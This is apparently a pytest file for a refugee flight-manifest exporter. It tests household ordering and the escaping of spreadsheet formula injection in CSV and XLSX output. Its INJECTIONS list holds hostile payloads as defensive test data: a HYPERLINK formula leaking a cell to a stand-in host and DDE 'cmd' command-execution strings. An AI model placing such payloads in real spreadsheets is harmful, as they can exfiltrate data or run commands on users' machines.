"""Manifest files for people: households stay together with the principal applicant first, and
no cell, in CSV or XLSX, is something a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook

from refuge.domain import Relationship, Sex
from refuge.exchange import MANIFEST_COLUMNS, manifest_csv, manifest_xlsx, spreadsheet_safe

from .builders import flight, passenger

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def two_households() -> list:
    first, second = uuid.uuid4(), uuid.uuid4()
    return [
        passenger("Omid", "Ahmadi", household=first, relationship=Relationship.CHILD),
        passenger("Nadia", "Rahimi", household=second),
        passenger("Zahra", "Ahmadi", household=first),
        passenger("Samir", "Rahimi", household=second, relationship=Relationship.SPOUSE),
        passenger("Mina", "Ahmadi", household=first, relationship=Relationship.CHILD),
    ]


def test_csv_keeps_households_together_with_the_principal_first() -> None:
    rows = read_csv(manifest_csv(two_households()))

    assert [(r["household"], r["given_names"], r["relationship"]) for r in rows] == [
        ("1", "Zahra", "principal"),
        ("1", "Omid", "child"),
        ("1", "Mina", "child"),
        ("2", "Nadia", "principal"),
        ("2", "Samir", "spouse"),
    ]
    assert list(rows[0]) == list(MANIFEST_COLUMNS)


def test_csv_carries_each_passengers_fields() -> None:
    person = passenger("Zahra", "Ahmadi", sex=Sex.FEMALE)

    (row,) = read_csv(manifest_csv([person]))

    assert row == {
        "household": "1",
        "household_id": str(person.household_id),
        "relationship": "principal",
        "manifest_entry_id": str(person.entry_id),
        "family_name": "Ahmadi",
        "given_names": "Zahra",
        "sex": "F",
        "date_of_birth": "1988-04-12",
        "nationality": "AFG",
        "document_kind": "passport",
        "document_number": "P04471122",
        "document_issuing_state": "AFG",
        "document_expiry": "2027-05-01",
    }


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_cells_that_look_like_formulas_are_prefixed_with_an_apostrophe(payload: str) -> None:
    (row,) = read_csv(manifest_csv([passenger(payload, payload)]))

    assert row["given_names"] == "'" + payload
    assert row["family_name"] == "'" + payload


@pytest.mark.parametrize("payload", INJECTIONS)
def test_xlsx_cells_that_look_like_formulas_stay_text(payload: str) -> None:
    data = manifest_xlsx(flight(), [passenger(payload, payload)])

    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for name in ("given_names", "family_name"):
        # XML turns a carriage return into a line feed on reading; the apostrophe is what counts.
        assert cells[name].value == "'" + payload.replace("\r", "\n")
        assert cells[name].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_has_the_same_rows_as_the_csv() -> None:
    people = two_households()
    data = manifest_xlsx(flight(), people)

    sheet = load_workbook(io.BytesIO(data)).active
    values = [
        [("" if v is None else str(v)) for v in row] for row in sheet.iter_rows(values_only=True)
    ]
    from_csv = list(csv.reader(io.StringIO(manifest_csv(people).decode("utf-8"))))
    assert values == from_csv
    assert sheet.freeze_panes == "A2"


def test_ordinary_text_is_left_alone() -> None:
    for text in ("Ahmadi", "O'Neill", "", "1988-04-12", "a=b", " =1"):
        assert spreadsheet_safe(text) == text
